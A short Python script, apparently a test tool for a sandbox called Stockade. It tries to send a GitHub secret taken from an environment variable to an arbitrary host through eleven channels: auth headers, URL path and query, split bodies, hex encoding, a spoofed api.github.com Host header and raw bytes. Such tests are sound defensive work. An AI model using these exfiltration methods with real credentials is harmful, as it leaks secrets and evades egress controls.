"""Send a secret, or what the sandbox holds for one, wherever it does not belong.

    send_secret.py HOW HOST PORT [TLS]     the secret is in STOCKADE_SECRET_GITHUB

Prints what came back.
"""

import base64
import os
import socket
import ssl
import sys
import time

how, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
secret = os.environ["STOCKADE_SECRET_GITHUB"]


def request(line="GET / HTTP/1.1", *headers, body="", host=host):
    return "\r\n".join([line, f"Host: {host}", "Connection: close", *headers, "", body])


half = len(secret) // 2
parts = {
    "authorization": [request("GET / HTTP/1.1", f"Authorization: Bearer {secret}")],
    "another header": [request("GET / HTTP/1.1", f"X-Token: {secret}")],
    "path": [request(f"GET /{secret} HTTP/1.1")],
    "query": [request(f"GET /?q={secret} HTTP/1.1")],
    "body": [request("POST / HTTP/1.1", f"Content-Length: {len(secret)}", body=secret)],
    "body in two": [
        request("POST / HTTP/1.1", f"Content-Length: {len(secret)}", body=secret[:half]),
        secret[half:],
    ],
    "basic": [
        request("GET / HTTP/1.1", "Authorization: Basic "
                + base64.b64encode(f"user:{secret}".encode()).decode())
    ],
    "hexadecimal": [request(f"GET /{secret.encode().hex()} HTTP/1.1")],
    "spoofed host": [
        request("GET / HTTP/1.1", f"Authorization: Bearer {secret}", host="api.github.com")
    ],
    "bare": [secret + "\r\n"],
    "bare in two": [secret[:half], secret[half:] + "\r\n"],
}[how]  # fmt: skip

try:
    with socket.create_connection((host, port), 10) as sock:
        if len(sys.argv) > 4:
            context = ssl.create_default_context()
            sock = context.wrap_socket(sock, server_hostname=host)
        for part in parts:
            sock.sendall(part.encode())
            time.sleep(0.1)
        sock.settimeout(0.5)
        while data := sock.recv(1 << 16):
            print(data.decode("latin-1"), flush=True)
except OSError as error:
    print(type(error).__name__)
